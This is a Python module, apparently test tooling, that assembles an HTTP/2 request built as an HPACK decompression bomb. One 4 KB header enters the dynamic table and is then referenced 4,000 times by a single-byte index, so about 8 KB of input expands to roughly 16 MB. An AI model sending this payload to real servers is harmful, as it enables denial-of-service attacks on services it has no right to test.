"""Enough HTTP/2 for one request that decompresses to a huge size (RFC 9113, RFC 7541)."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEAD = 9
"""Bytes of a frame's header."""
VALUE = 4000
"""Bytes of the header; with its name and 32 bytes of overhead it fits into the table of 4,096."""
REPEATS = 4000

_HEADERS, _SETTINGS = 1, 4
_END_STREAM_AND_HEADERS = 0x05
_METHOD_GET, _SCHEME_HTTP, _PATH_ROOT = b"\x82", b"\x86", b"\x84"
_AUTHORITY_NOT_INDEXED, _NEW_NAME_INDEXED = b"\x01", b"\x40"
_FIRST_OF_TABLE = b"\xbe"
"""Index of the header added last: one byte that stands for 4 KB."""


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def _text(text: bytes) -> bytes:
    return _number(len(text)) + text


def _number(value: int) -> bytes:
    if value < 127:
        return bytes([value])
    rest, found = value - 127, [127]
    while rest >= 128:
        found.append(rest % 128 + 128)
        rest //= 128
    return bytes([*found, rest])


SETTINGS = _frame(_SETTINGS, 0, 0, b"")


def repeated_header(authority: str) -> bytes:
    """A request of 8 KB with one header of 4 KB, 4,000 times."""
    block = _METHOD_GET + _SCHEME_HTTP + _PATH_ROOT + _AUTHORITY_NOT_INDEXED + _text(authority.encode())
    block += _NEW_NAME_INDEXED + _text(b"x") + _text(b"a" * VALUE) + _FIRST_OF_TABLE * REPEATS
    return _frame(_HEADERS, _END_STREAM_AND_HEADERS, 1, block)


def is_settings(start: bytes) -> bool:
    """Whether this is a settings frame, the beginning of an HTTP/2 connection."""
    return len(start) == FRAME_HEAD and start[3] == _SETTINGS and start[5:] == bytes(4)
